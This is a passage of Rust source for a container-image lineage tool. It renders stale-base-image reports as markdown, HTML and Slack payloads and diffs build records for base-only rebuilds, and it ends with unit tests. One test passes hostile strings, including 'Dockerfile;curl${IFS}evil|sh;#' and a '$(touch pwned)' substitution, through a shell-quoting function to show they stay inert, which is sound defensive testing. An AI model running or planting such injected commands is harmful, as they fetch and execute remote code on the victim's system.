            let _ = writeln!(
                out,
                "- {} in {}: {}",
                md_cell(&n.service),
                md_cell(&n.env),
                n.reason
            );
        }
        let _ = writeln!(out);
    }
    if !r.bases.is_empty() {
        let _ = writeln!(out, "## Data freshness\n");
        for b in &r.bases {
            let _ = writeln!(out, "- {}", md_cell(&freshness_line(b)));
        }
    }
    out
}

fn html_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// A self-contained HTML page: inline CSS, no scripts, no external assets, so it can be
/// mailed or archived as one file.
pub fn render_html(r: &StaleReport) -> String {
    let e = |s: &str| html_escape(s);
    let mut out = String::new();
    out.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
    out.push_str("<title>Stale base images</title>\n<style>\n");
    out.push_str(
        "body{font-family:system-ui,sans-serif;margin:2rem;color:#1d2329}\n\
         table{border-collapse:collapse;width:100%}\n\
         th,td{border:1px solid #d0d7de;padding:.35rem .5rem;text-align:left;vertical-align:top}\n\
         th{background:#f3f5f7}\n\
         td.num{text-align:right}\n\
         code{font-family:ui-monospace,monospace;font-size:.9em}\n\
         .late{color:#b42318;font-weight:600}\n\
         footer{margin-top:1.5rem;color:#57606a;font-size:.9em}\n",
    );
    out.push_str("</style>\n</head>\n<body>\n<h1>Stale base images</h1>\n");
    let _ = writeln!(out, "<p>{}</p>", e(&headline(r)));
    if !r.rows.is_empty() {
        out.push_str("<table>\n<thead><tr><th>service</th><th>environment</th><th>running digest</th><th>base</th><th>running base</th><th>newest base</th><th>days behind</th><th>digests behind</th><th>owner</th><th>backup owner</th><th>rebuild</th></tr></thead>\n<tbody>\n");
        for row in &r.rows {
            let late = r.fail_after.is_some_and(|n| row.days_behind > i64::from(n));
            let _ = writeln!(
                out,
                "<tr><td>{}</td><td>{}</td><td><code title=\"{}\">{}</code></td><td><code>{}</code></td><td><code title=\"{}\">{}</code></td><td><code title=\"{}\">{}</code></td><td class=\"num{}\">{}</td><td class=\"num\">{}</td><td>{}</td><td>{}</td><td><code>{}</code></td></tr>",
                e(&row.service),
                e(&row.env),
                e(&row.digest),
                e(&match &row.retired {
                    Some(_) => format!("{} RETIRED", short(&row.digest)),
                    None => short(&row.digest),
                }),
                e(&base_label(row)),
                e(&row.running_base_digest),
                e(&short(&row.running_base_digest)),
                e(&row.newest_base_digest),
                e(&short(&row.newest_base_digest)),
                if late { " late" } else { "" },
                row.days_behind,
                row.digests_behind,
                e(row.owner.as_deref().unwrap_or("—")),
                e(row.backup_owner.as_deref().unwrap_or("—")),
                e(&rebuild_line(row)),
            );
        }
        out.push_str("</tbody>\n</table>\n");
    }
    let _ = writeln!(out, "<p>{}</p>", e(&footer_counts(r)));
    if !r.not_assessed.is_empty() {
        out.push_str("<h2>Not assessed</h2>\n<ul>\n");
        for n in &r.not_assessed {
            let _ = writeln!(
                out,
                "<li>{} in {}: {}</li>",
                e(&n.service),
                e(&n.env),
                e(&n.reason)
            );
        }
        out.push_str("</ul>\n");
    }
    if !r.bases.is_empty() {
        out.push_str("<footer>\n<h2>Data freshness</h2>\n<ul>\n");
        for b in &r.bases {
            let _ = writeln!(out, "<li>{}</li>", e(&freshness_line(b)));
        }
        out.push_str("</ul>\n</footer>\n");
    }
    out.push_str("</body>\n</html>\n");
    out
}

/// Slack allows 50 blocks per message; rows past this are summarised in one line.
const MAX_ROW_BLOCKS: usize = 40;

/// A Slack / Mattermost incoming-webhook payload. `text` carries the whole plain report,
/// which Mattermost shows and Slack uses for notifications; `blocks` is Slack's richer layout.
pub fn slack_payload(r: &StaleReport) -> serde_json::Value {
    use serde_json::json;
    let mut blocks = vec![
        json!({"type": "header", "text": {"type": "plain_text", "text": "Stale base images"}}),
        json!({"type": "section", "text": {"type": "mrkdwn", "text": headline(r)}}),
    ];
    for row in r.rows.iter().take(MAX_ROW_BLOCKS) {
        let text = format!(
            "*{}* in *{}*: {} behind ({} newer than the running one)\nbase `{}` `{}` → `{}`\nowner {}\nrebuild: `{}`",
            row.service,
            row.env,
            plural(row.days_behind, "day", "days"),
            plural(row.digests_behind as i64, "base digest", "base digests"),
            base_label(row),
            short(&row.running_base_digest),
            short(&row.newest_base_digest),
            owners_line(row),
            rebuild_line(row)
        );
        let text = match &row.retired {
            Some(x) => format!("{text}\n*RETIRED*: {}", retired_line(x)),
            None => text,
        };
        blocks.push(json!({"type": "section", "text": {"type": "mrkdwn", "text": text}}));
    }
    if r.rows.len() > MAX_ROW_BLOCKS {
        blocks.push(json!({"type": "section", "text": {"type": "mrkdwn",
            "text": format!("…and {} more; see `lineage report stale`", r.rows.len() - MAX_ROW_BLOCKS)}}));
    }
    let mut context = vec![footer_counts(r)];
    context.extend(r.bases.iter().map(freshness_line));
    blocks.push(json!({"type": "context", "elements": [
        {"type": "mrkdwn", "text": context.join("\n")}
    ]}));
    json!({"text": render_text(r), "blocks": blocks})
}

// ---------------------------------------------------------------------------------------------
// Rebuild diff

/// How a field bears on "did only the base change".
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum FieldKind {
    /// What goes into the image: source, Dockerfile, which base tag.
    Input,
    /// The base digests themselves.
    Base,
    /// Where, how and when it was built; explains a digest, not a content change.
    Context,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct FieldChange {
    pub field: &'static str,
    pub kind: FieldKind,
    pub old: Option<String>,
    pub new: Option<String>,
    pub changed: bool,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct BaseOnly {
    /// True when the base digest changed and no input field did.
    pub holds: bool,
    /// Input fields that changed too (or the reason it does not hold).
    pub also_changed: Vec<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Reproducibility {
    /// `reproducible`, `not reproducible`, or `not applicable` (the inputs differ or are
    /// not all recorded).
    pub verdict: &'static str,
    /// For `not reproducible`: the recorded context fields that differ and could explain it.
    pub could_explain: Vec<&'static str>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct BuildDiff {
    pub schema: u32,
    pub service: String,
    pub old: String,
    pub new: String,
    pub fields: Vec<FieldChange>,
    pub base_only: BaseOnly,
    pub reproducibility: Reproducibility,
}

fn field(
    name: &'static str,
    kind: FieldKind,
    old: Option<String>,
    new: Option<String>,
) -> FieldChange {
    FieldChange {
        field: name,
        kind,
        changed: old != new,
        old,
        new,
    }
}

fn joined(items: impl Iterator<Item = String>) -> Option<String> {
    let v: Vec<String> = items.collect();
    if v.is_empty() {
        None
    } else {
        Some(v.join(", "))
    }
}

/// Compares two builds. Inputs are commit, source repository, Dockerfile hash and the base
/// tags per stage; the base digests are the base; builder, platform, CI, tags and times are
/// context. Unknown inputs (a commit or Dockerfile hash not recorded on either side) cannot
/// prove anything, so they make `base-only` fail rather than pass by default.
pub fn diff(old: &BuildRecord, new: &BuildRecord) -> BuildDiff {
    use FieldKind::*;
    let base_tags = |b: &BuildRecord| {
        joined(b.bases.iter().map(|x| match &x.tag {
            Some(t) => format!("{}:{t}", x.name),
            None => x.name.to_string(),
        }))
    };
    let base_digests = |b: &BuildRecord| {
        joined(
            b.bases
                .iter()
                .map(|x| x.digest.as_ref().map_or("?".into(), |d| d.to_string())),
        )
    };
    let dockerfile = |b: &BuildRecord| {
        b.dockerfile
            .as_ref()
            .and_then(|d| d.sha256.as_ref())
            .map(|h| format!("sha256:{h}"))
    };
    let ci = |b: &BuildRecord| {
        b.ci.as_ref().map(|c| {
            let mut s = c.system.clone();
            for part in [&c.job, &c.run_id, &c.url].into_iter().flatten() {
                s.push(' ');
                s.push_str(part);
            }
            s
        })
    };
    let s = |v: Option<&dyn std::fmt::Display>| v.map(|x| x.to_string());
    let fields = vec![
        field(
            "commit",
            Input,
            s(old.commit.as_ref().map(|c| c as _)),
            s(new.commit.as_ref().map(|c| c as _)),
        ),
        field(
            "source_repo",
            Input,
            s(old.source_repo.as_ref().map(|c| c as _)),
            s(new.source_repo.as_ref().map(|c| c as _)),
        ),
        field("dockerfile", Input, dockerfile(old), dockerfile(new)),
        field("base_tags", Input, base_tags(old), base_tags(new)),
        field("base_digests", Base, base_digests(old), base_digests(new)),
        field(
            "builder",
            Context,
            s(old.builder.as_ref().map(|c| c as _)),
            s(new.builder.as_ref().map(|c| c as _)),
        ),
        field(
            "platform",
            Context,
            old.platform.clone(),
            new.platform.clone(),
        ),
        field("ci", Context, ci(old), ci(new)),
        field("git_ref", Context, old.git_ref.clone(), new.git_ref.clone()),
        field(
            "tags",
            Context,
            joined(old.tags.iter().map(Tag::to_string)),
            joined(new.tags.iter().map(Tag::to_string)),
        ),
        field(
            "finished_at",
            Context,
            s(old.finished_at.as_ref().map(|c| c as _)),
            s(new.finished_at.as_ref().map(|c| c as _)),
        ),
    ];
    let get = |name: &str| {
        fields
            .iter()
            .find(|f| f.field == name)
            .expect("field exists")
    };
    let mut also_changed = Vec::new();
    for f in fields.iter().filter(|f| f.kind == Input) {
        if f.changed {
            also_changed.push(f.field.to_string());
        } else if f.old.is_none() && matches!(f.field, "commit" | "dockerfile") {
            also_changed.push(format!(
                "{} (not recorded, cannot prove it unchanged)",
                f.field
            ));
        }
    }
    let base = get("base_digests");
    let base_changed = base.changed;
    let inputs_known =
        also_changed.is_empty() && base.old.as_deref().is_some_and(|d| !d.contains('?'));
    let mut base_only_reasons = also_changed.clone();
    if !base_changed {
        base_only_reasons.push("base_digests (unchanged: the base did not change)".into());
    }
    let reproducibility = if !inputs_known || base_changed {
        Reproducibility {
            verdict: "not applicable",
            could_explain: Vec::new(),
        }
    } else if old.digest == new.digest {
        Reproducibility {
            verdict: "reproducible",
            could_explain: Vec::new(),
        }
    } else {
        Reproducibility {
            verdict: "not reproducible",
            could_explain: ["builder", "platform", "finished_at"]
                .into_iter()
                .filter(|n| get(n).changed)
                .collect(),
        }
    };
    BuildDiff {
        schema: 1,
        service: new.service.to_string(),
        old: old.digest.to_string(),
        new: new.digest.to_string(),
        base_only: BaseOnly {
            holds: base_only_reasons.is_empty(),
            also_changed: base_only_reasons,
        },
        reproducibility,
        fields,
    }
}

/// The diff as text: changed fields first, then the verdicts.
pub fn render_diff_text(d: &BuildDiff, expect_base_only: bool) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{}: {} -> {}", d.service, short(&d.old), short(&d.new));
    let show = |v: &Option<String>| match v {
        Some(s) if s.starts_with("sha256:") && !s.contains(", ") => short(s),
        Some(s) => s
            .split(", ")
            .map(|p| {
                if p.starts_with("sha256:") {
                    short(p)
                } else {
                    p.to_string()
                }
            })
            .collect::<Vec<_>>()
            .join(", "),
        None => "(not recorded)".to_string(),
    };
    let changed: Vec<&FieldChange> = d.fields.iter().filter(|f| f.changed).collect();
    if changed.is_empty() {
        let _ = writeln!(out, "  no recorded field differs");
    }
    for f in &changed {
        let _ = writeln!(
            out,
            "  changed    {:<13} {} -> {}",
            f.field,
            show(&f.old),
            show(&f.new)
        );
    }
    for f in d.fields.iter().filter(|f| !f.changed) {
        let _ = writeln!(out, "  same       {:<13} {}", f.field, show(&f.old));
    }
    let _ = match d.reproducibility.verdict {
        "not reproducible" if !d.reproducibility.could_explain.is_empty() => writeln!(
            out,
            "reproducibility: not reproducible (could be explained by: {})",
            d.reproducibility.could_explain.join(", ")
        ),
        "not reproducible" => writeln!(
            out,
            "reproducibility: not reproducible (no recorded field explains it)"
        ),
        "reproducible" => writeln!(out, "reproducibility: reproducible"),
        _ => writeln!(out, "reproducibility: not applicable (inputs differ)"),
    };
    if d.base_only.holds {
        let _ = writeln!(out, "base-only: yes, only the base changed");
    } else if expect_base_only {
        let _ = writeln!(
            out,
            "base-only: FAILED, also changed: {}",
            d.base_only.also_changed.join(", ")
        );
    } else {
        let _ = writeln!(
            out,
            "base-only: no ({})",
            d.base_only.also_changed.join(", ")
        );
    }
    out
}

/// The most days any of `freshness` is behind (at least 0), and who saw the newer digest: a
/// service's worst base, as the fleet page shows it.
pub fn worst_behind<'a>(
    freshness: &[&'a Freshness],
    now: Timestamp,
) -> Option<(i64, &'a [&'static str])> {
    freshness
        .iter()
        .filter_map(|f| match f {
            Freshness::Behind { since, source, .. } => {
                Some((since.days_until(now).max(0), source.as_slice()))
            }
            _ => None,
        })
        .max_by_key(|(days, _)| *days)
}

#[cfg(test)]
mod tests {

    /// What the report prints as a command runs as that command: hostile text stays one
    /// inert word (issue 14).
    #[test]
    fn quoted_words_survive_a_real_shell() {
        for hostile in [
            "Dockerfile;curl${IFS}evil|sh;#",
            "it's $(touch pwned) `id` \\ \"q\"",
            "plain/Dockerfile.prod",
            "",
            "new\nline",
        ] {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf %s {}", shell_quote(hostile)))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), hostile);
        }
        assert_eq!(
            shell_quote("plain/Dockerfile.prod"),
            "plain/Dockerfile.prod"
        );
    }

    use super::*;
    use lineage_model::{BaseImage, CommitId, DockerfileRef, ServiceName};

    fn ts(s: &str) -> Timestamp {
        Timestamp::parse(s).unwrap()
    }

    fn dg(c: char) -> Digest {
        Digest::parse(&format!("sha256:{}", c.to_string().repeat(64))).unwrap()
    }

    fn build(digest: char, base: char, commit: char) -> BuildRecord {
        BuildRecord {
            service: ServiceName::parse("api").unwrap(),
            image: Repository::parse("ghcr.io/acme/api").unwrap(),
            digest: dg(digest),
            tags: vec![],
            bases: vec![BaseImage {
                name: Repository::parse("python").unwrap(),
                tag: Some(Tag::parse("3.12").unwrap()),
                digest: Some(dg(base)),
                pulled_at: None,
                final_stage: true,
            }],
            source_repo: None,
            git_ref: None,
            commit: Some(CommitId::parse(&commit.to_string().repeat(40)).unwrap()),
            started_at: None,
            finished_at: None,
            ci: None,
            builder: None,
            platform: Some("linux/amd64".into()),
            dockerfile: Some(DockerfileRef {
                path: "Dockerfile".into(),
                sha256: Some("ab".repeat(32)),
            }),
        }
    }

    #[test]
    fn base_tag_needs_a_tag_and_no_digest() {
        assert_eq!(
            BaseTag::parse("python:3.12").unwrap().to_string(),
            "docker.io/library/python:3.12"
        );
        assert_eq!(
            BaseTag::parse("python").unwrap_err().to_string(),
            "base tag `python` has no tag"
        );
        let pinned = format!("python:3.12@{}", dg('a'));
        assert!(BaseTag::parse(&pinned)
            .unwrap_err()
            .to_string()
            .ends_with("pins a digest; history is kept per tag"));
    }

    #[test]
    fn base_only_rebuild_passes_and_commit_change_is_named() {
        let d = diff(&build('1', 'a', 'c'), &build('2', 'b', 'c'));
        assert!(d.base_only.holds, "{d:?}");
        assert_eq!(d.reproducibility.verdict, "not applicable");
        let d = diff(&build('1', 'a', 'c'), &build('2', 'b', 'd'));
        assert!(!d.base_only.holds);
        assert_eq!(d.base_only.also_changed, vec!["commit".to_string()]);
    }

    #[test]
    fn same_inputs_tell_reproducible_from_not() {
        let d = diff(&build('1', 'a', 'c'), &build('1', 'a', 'c'));
        assert_eq!(d.reproducibility.verdict, "reproducible");
        assert!(
            !d.base_only.holds,
            "nothing changed, so not a base-only rebuild"
        );
        let mut other = build('2', 'a', 'c');
        other.platform = Some("linux/arm64".into());
        other.finished_at = Some(ts("2026-11-02T00:00:00Z"));
        let d = diff(&build('1', 'a', 'c'), &other);
        assert_eq!(d.reproducibility.verdict, "not reproducible");
        assert_eq!(
            d.reproducibility.could_explain,
            vec!["platform", "finished_at"]
        );
    }

    #[test]
    fn unknown_commit_cannot_prove_base_only() {
        let mut old = build('1', 'a', 'c');
        let mut new = build('2', 'b', 'c');
        old.commit = None;
        new.commit = None;
        let d = diff(&old, &new);
        assert!(!d.base_only.holds);
        assert!(d.base_only.also_changed[0].starts_with("commit (not recorded"));
    }

    #[test]
    fn a_retired_digest_that_still_runs_is_flagged_in_every_format() {
        let t = Timestamp::parse("2026-11-17T09:00:00Z").unwrap();
        let row = StaleRow {
            service: "api".into(),
            env: "production".into(),
            digest: format!("sha256:{}", "a".repeat(64)),
            image: "ghcr.io/acme/api".into(),
            base: "python:3.12-slim".into(),
            stage: Stage::Final,
            running_base_digest: format!("sha256:{}", "b".repeat(64)),
            newest_base_digest: format!("sha256:{}", "c".repeat(64)),
            days_behind: 40,
            digests_behind: 2,
            behind_since: t,
            source: vec!["registry"],
            owner: Some("priya@acme.dev".into()),
            backup_owner: None,
            commit: None,
            rebuild: None,
            from_line: "FROM python:3.12-slim@sha256:cccc".into(),
            rebuilt: None,
            ci_url: None,
            observed: None,
            retired: Some(crate::lifecycle::RetiredMark {
                reason: "CVE-2026-1234 <in base>".into(),
                by: "maya@acme.dev".into(),
                at: t,
            }),
        };
        let report = StaleReport {
            schema: 1,
            generated_at: t,
            env: None,
            min_days: 0,
            fail_after: None,
            over_limit: 0,
            fails: false,
            below_min_days: 0,
            rows: vec![row],
            up_to_date: 0,
            not_assessed: Vec::new(),
            bases: Vec::new(),
        };
        assert!(render_text(&report).contains("RETIRED   retired by maya@acme.dev"));
        assert!(render_markdown(&report).contains("**RETIRED** api in production"));
        let html = render_html(&report);
        assert!(html.contains("RETIRED"), "{html}");
        assert!(!html.contains("<in base>"));
        assert!(slack_payload(&report).to_string().contains("*RETIRED*"));
    }

    #[test]
    fn html_escapes_everything_it_shows() {
        assert_eq!(
            html_escape("<a href=\"x\">&'"),
            "&lt;a href=&quot;x&quot;&gt;&amp;&#39;"
        );
    }
}
